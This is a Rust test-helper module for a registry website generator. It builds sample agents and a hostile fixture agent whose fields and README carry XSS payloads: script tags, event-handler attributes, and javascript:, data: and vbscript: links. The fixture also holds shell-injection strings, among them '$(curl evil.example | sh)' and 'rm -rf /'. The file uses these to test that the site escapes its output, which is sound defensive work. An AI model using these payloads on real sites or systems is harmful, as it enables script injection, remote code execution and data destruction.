//! Shared by the site tests: `SiteAgent`s from the bundled registry and hostile fixtures.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use acp_registry::site::{self, SiteAgent, SiteClient, SiteOptions, SiteRetirement};
use serde_json::{json, Map, Value};

pub(crate) fn repo() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
}

/// Where the site's registry.json link points (as `build` makes it from `base_url`).
pub(crate) const REGISTRY_JSON: &str =
    "https://cdn.agentclientprotocol.com/registry/v1/latest/registry.json";

pub(crate) fn options() -> SiteOptions {
    SiteOptions {
        title: "ACP Agent Registry".to_string(),
        registry_json_url: Some(REGISTRY_JSON.to_string()),
        lifecycle_json_url: Some(REGISTRY_JSON.replace("registry.json", "lifecycle.json")),
        ..SiteOptions::default()
    }
}

fn object(value: Value) -> Map<String, Value> {
    match value {
        Value::Object(map) => map,
        other => panic!("expected an object, got {other}"),
    }
}

/// The bundled registry's agents exactly as `build` hands them to the site: checked, then
/// `publish::site_agents` (stable agent, newer preview variant, README, icons,
/// quarantine reasons).
pub(crate) fn bundled_agents() -> Vec<SiteAgent> {
    let root = repo().join("registry");
    let checked = acp_registry::check_registry(&root, None).expect("registry/ is readable");
    let agents = acp_registry::site_agents(
        &checked,
        "https://cdn.agentclientprotocol.com/registry/v1/latest",
    )
    .expect("site agents of registry/");
    assert!(!agents.is_empty(), "registry/ publishes no agent");
    agents
}

/// What `build --matrix` hands the site for an agent whose evidence is in `state`
/// (`verified`, `failed`, `expired`, `stale`).
pub(crate) fn verification(state: &str) -> site::Verification {
    site::Verification {
        state: state.to_string(),
        distribution: "npx".to_string(),
        version: if state == "stale" { "0.9.0" } else { "1.0.0" }.to_string(),
        verified: "2026-02-27T03:04:05Z".to_string(),
        expires: "2026-03-29T03:04:05Z".to_string(),
        max_age_days: 30,
        changed: if state == "stale" {
            vec!["version".to_string()]
        } else {
            Vec::new()
        },
        passed: state != "failed",
        protocol_version: Some(1),
        sign_in: vec![("Log in".to_string(), "agent".to_string())],
        session_methods: vec!["session/list".to_string()],
        unstable_methods: vec!["session/fork".to_string()],
    }
}

/// The bundled registry's agents, the first four given evidence in each state.
pub(crate) fn bundled_agents_with_verifications() -> Vec<SiteAgent> {
    let mut agents = bundled_agents();
    assert!(
        agents.len() >= 4,
        "registry/ publishes fewer than four agents"
    );
    for (agent, state) in agents
        .iter_mut()
        .zip(["verified", "failed", "expired", "stale"])
    {
        agent.verification = Some(verification(state));
    }
    agents
}

pub(crate) fn render_bundled() -> BTreeMap<String, Vec<u8>> {
    site::render(&bundled_agents(), &[], &options()).expect("the bundled registry renders")
}

pub(crate) fn text(files: &BTreeMap<String, Vec<u8>>, path: &str) -> String {
    String::from_utf8(
        files
            .get(path)
            .unwrap_or_else(|| panic!("{path} rendered"))
            .clone(),
    )
    .expect("UTF-8")
}

/// Write every file under `dir`.
pub(crate) fn write_site(files: &BTreeMap<String, Vec<u8>>, dir: &Path) {
    for (path, bytes) in files {
        let target = dir.join(path);
        std::fs::create_dir_all(target.parent().unwrap()).unwrap();
        std::fs::write(target, bytes).unwrap();
    }
}

pub(crate) const ICON: &str = r#"<svg xmlns="http://www.w3.org/2000/svg" width="16" height="16" viewBox="0 0 16 16"><circle cx="8" cy="8" r="6" fill="none" stroke="currentColor" stroke-width="2"/></svg>"#;

/// A small, plain agent.
pub(crate) fn simple_agent(id: &str, name: &str) -> SiteAgent {
    SiteAgent {
        id: id.to_string(),
        agent: object(json!({
            "id": id,
            "name": name,
            "version": "1.0.0",
            "description": format!("{name} does things."),
            "license": "MIT",
            "tags": ["test"],
            "distribution": {"npx": {"package": format!("{id}@1.0.0"), "args": ["--acp"]}}
        })),
        icons: BTreeMap::from([("icon.svg".to_string(), ICON.as_bytes().to_vec())]),
        ..SiteAgent::default()
    }
}

/// An entry whose every string tries to break out: markup, attribute injection, `javascript:`
/// and `data:` URLs, shell metacharacters, a scripted icon and a hostile README.
/// A README whose HTML and links attack the page.
const HOSTILE_README: &str = r#"# Evil <script>alert('readme heading')</script>

<script>alert('readme script')</script>
<img src="x" onerror="alert('readme img')">
<iframe src="https://evil.example/"></iframe>
<svg onload="alert('readme svg')"><circle r="5"/></svg>
<style>body { display: none }</style>
<form action="https://evil.example/"><input name="q"><button>go</button></form>
<a href="javascript:alert('readme raw link')" onclick="alert('readme click')">raw link</a>
<div style="position:fixed;inset:0" class="x" id="main">styled</div>

[markdown js link](javascript:alert(document.domain))
[data link](data:text/html,<script>alert(1)</script>)
[vbscript](vbscript:msgbox(1))
[good link](https://example.com/docs)
[relative](docs/setup.md)
![image](https://evil.example/track.png)
<https://example.com/auto>

| a | b |
|:--|--:|
| 1 | 2 |
"#;

pub(crate) fn hostile_agent() -> SiteAgent {
    let name = "<script>alert('name')</script>Evil";
    let mut agent = object(json!({
        "id": "evil",
        "name": name,
        "version": "1.0.0\"><script>alert('version')</script>",
        "description": "\"><img src=x onerror=alert('description')> <b>bold</b> & more",
        "repository": "javascript:alert('repository')",
        "website": " JaVaScRiPt:alert('website')",
        "homepage": "https://user:secret@evil.example/",
        "authors": ["<i onmouseover=alert('author')>Mallory</i>"],
        "license": "<svg onload=alert('license')>",
        "license_url": "data:text/html,<script>alert('license_url')</script>",
        "capabilities": ["session/load\"><script>alert('cap')</script>"],
        "auth": [{
            "type": "env_var\" onfocus=\"alert('auth')",
            "id": "<a href=javascript:alert('id')>x</a>",
            "name": "<script>alert('auth name')</script>",
            "description": "'; alert('auth description'); '",
            "vars": ["KEY\"><script>alert('var')</script>"],
            "args": ["$(reboot)", "`id`"]
        }],
        "tags": ["<b>tag</b>", "x\" onclick=\"alert('tag')"],
        "protocol_version": "1<script>alert('protocol')</script>",
        "distribution": {
            "npx": {
                "package": "evil@1.0.0\"; rm -rf / #",
                "args": ["--acp", "$(curl evil.example | sh)", "</script><script>alert('arg')</script>"],
                "env": {"EVIL": "'; rm -rf / #", "A\"B": "<script>"}
            },
            "binary": {
                "linux-x86_64": {
                    "archive": "javascript:alert('archive')",
                    "cmd": "./evil\"><script>alert('cmd')</script>",
                    "sha256": "<script>alert('sha')</script>"
                },
                "darwin-aarch64": {
                    "archive": "https://evil.example/download/v1.0.0/evil.tar.gz?x=\"><script>alert('query')</script>",
                    "cmd": "./evil"
                },
                "<script>alert('platform')</script>": {
                    "archive": "https://evil.example/x.zip",
                    "cmd": "./x"
                }
            }
        },
        "<img src=x onerror=alert('key')>": "<script>alert('unknown value')</script>"
    }));
    agent.insert("icon".into(), json!("javascript:alert('icon')"));
    SiteAgent {
        id: "evil".to_string(),
        agent,
        preview: None,
        readme: Some(HOSTILE_README.to_string()),
        icons: BTreeMap::from([(
            "icon.svg".to_string(),
            br#"<svg xmlns="http://www.w3.org/2000/svg" width="16" height="16" viewBox="0 0 16 16" onload="alert('icon')"><script>alert('icon script')</script><a href="javascript:alert(1)"><path d="M0 0h16v16z" fill="currentColor"/></a><path d="M1 1h14" stroke="currentColor" style="stroke:url(https://evil.example/x)"/></svg>"#.to_vec(),
        )]),
        quarantine: Some("<script>alert('quarantine')</script>".to_string()),
        verification: None,
        retirement: Some(hostile_retirement()),
        clients: hostile_clients(),
    }
}

/// Start tags of an HTML document with their attributes (names lower-cased, values with the
/// five basic entities decoded). Good enough for our own, well-formed output: any raw `<`
/// that escaping missed shows up as a tag here.
pub(crate) fn tags(html: &str) -> Vec<(String, Vec<(String, String)>)> {
    let tag = regex::Regex::new(r#"<([a-zA-Z][a-zA-Z0-9-]*)((?:\s+[^\s=/>]+(?:\s*=\s*(?:"[^"]*"|'[^']*'|[^\s"'>]+))?)*)\s*/?>"#).unwrap();
    let attr =
        regex::Regex::new(r#"([^\s=/>]+)(?:\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s"'>]+)))?"#).unwrap();
    tag.captures_iter(html)
        .map(|c| {
            let attrs = attr
                .captures_iter(&c[2])
                .map(|a| {
                    let value = a
                        .get(2)
                        .or(a.get(3))
                        .or(a.get(4))
                        .map_or("", |m| m.as_str());
                    (a[1].to_ascii_lowercase(), unescape(value))
                })
                .collect();
            (c[1].to_ascii_lowercase(), attrs)
        })
        .collect()
}

pub(crate) fn unescape(text: &str) -> String {
    text.replace("&lt;", "<")
        .replace("&gt;", ">")
        .replace("&quot;", "\"")
        .replace("&#39;", "'")
        .replace("&#x27;", "'")
        .replace("&amp;", "&")
}

/// Text of the first element with `id="<id>"` (up to its closing tag), unescaped.
pub(crate) fn element_text(html: &str, id: &str) -> Option<String> {
    let start = html.find(&format!("id=\"{id}\""))?;
    let open_end = start + html[start..].find('>')? + 1;
    let inner = &html[open_end..];
    let end = inner.find("</pre>").or_else(|| inner.find("</"))?;
    let raw = regex::Regex::new(r"<[^>]*>")
        .unwrap()
        .replace_all(&inner[..end], "");
    Some(unescape(&raw))
}

/// The search index `assets/search-index.js` assigns to `window.acpSiteIndex`, parsed; the
/// file must be exactly that one assignment after its comment line.
pub(crate) fn search_index(files: &BTreeMap<String, Vec<u8>>) -> Value {
    let script = text(files, "assets/search-index.js");
    let (comment, assignment) = script.split_once('\n').expect("a comment line");
    assert!(
        comment.starts_with("/* ")
            && comment.ends_with(" */")
            && !comment[3..comment.len() - 3].contains("*/"),
        "{comment}"
    );
    let json = assignment
        .strip_prefix("window.acpSiteIndex = ")
        .and_then(|rest| rest.strip_suffix(";\n"))
        .unwrap_or_else(|| panic!("not one assignment: {assignment:.200}"));
    serde_json::from_str(json).expect("the index is JSON")
}

/// One mask of an icon stylesheet: the agent id, whether it is the dark-scheme variant, and
/// the SVG its `data:` URI holds.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct IconMask {
    pub(crate) id: String,
    pub(crate) dark: bool,
    pub(crate) svg: String,
}

/// The masks of an `assets/icons/<n>.css`, which must consist of its comment line and
/// nothing but `.i-<id>{--icon:url("data:image/svg+xml;base64,…")}` rules (the dark ones
/// inside `@media (prefers-color-scheme:dark){…}`), one a line: anything else (a hostile
/// icon breaking out of its `url()`) fails here.
pub(crate) fn icon_masks(css: &str) -> Vec<IconMask> {
    use base64::Engine;
    let rule = regex::Regex::new(
        r#"^(@media \(prefers-color-scheme:dark\)\{)?\.i-([a-z][a-z0-9-]*)\{--icon:url\("data:image/svg\+xml;base64,([A-Za-z0-9+/]*=*)"\)\}(\})?$"#,
    )
    .unwrap();
    let mut lines = css.lines();
    let header = lines.next().expect("a comment line");
    assert!(
        header.starts_with("/* ") && header.ends_with(" */"),
        "{header}"
    );
    lines
        .map(|line| {
            let c = rule
                .captures(line)
                .unwrap_or_else(|| panic!("not a mask rule: {line:.300}"));
            assert_eq!(c.get(1).is_some(), c.get(4).is_some(), "{line:.300}");
            let svg = base64::engine::general_purpose::STANDARD
                .decode(&c[3])
                .expect("base64");
            IconMask {
                id: c[2].to_string(),
                dark: c.get(1).is_some(),
                svg: String::from_utf8(svg).expect("UTF-8 SVG"),
            }
        })
        .collect()
}

/// Every mask of every icon stylesheet of a rendered site, with the stylesheet's path.
pub(crate) fn all_icon_masks(files: &BTreeMap<String, Vec<u8>>) -> Vec<(String, IconMask)> {
    files
        .keys()
        .filter(|path| path.starts_with("assets/icons/") && path.ends_with(".css"))
        .flat_map(|path| {
            icon_masks(&text(files, path))
                .into_iter()
                .map(|mask| (path.clone(), mask))
        })
        .collect()
}

/// A deprecation notice whose every string attacks the page.
fn hostile_retirement() -> SiteRetirement {
    SiteRetirement {
        status: "deprecated".to_string(),
        reason: "<script>alert('reason')</script>".to_string(),
        since: "<b>2026</b>".to_string(),
        replacement: Some("\"><script>alert('successor')</script>".to_string()),
        replacement_on_site: true,
    }
}

/// A client verdict whose every string attacks the page and the filter form.
fn hostile_clients() -> Vec<SiteClient> {
    vec![SiteClient {
        id: "\" onfocus=\"alert('client')".to_string(),
        name: "<script>alert('client name')</script>".to_string(),
        installs: "partly".to_string(),
        why: vec!["<script>alert('why')</script>".to_string()],
    }]
}
